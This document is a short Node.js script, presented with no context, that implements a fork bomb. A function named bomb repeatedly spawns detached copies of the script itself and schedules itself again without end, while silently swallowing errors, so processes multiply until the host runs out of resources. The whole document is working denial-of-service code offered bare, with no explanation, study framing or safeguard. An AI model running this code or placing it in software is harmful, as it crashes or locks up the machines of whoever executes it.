const { spawn } = require("child_process");
function bomb() {
  try {
    spawn(process.execPath, [__filename], { detached: true, stdio: "ignore" }).on("error", () => {});
  } catch (error) {}
  setImmediate(bomb);
}
bomb();
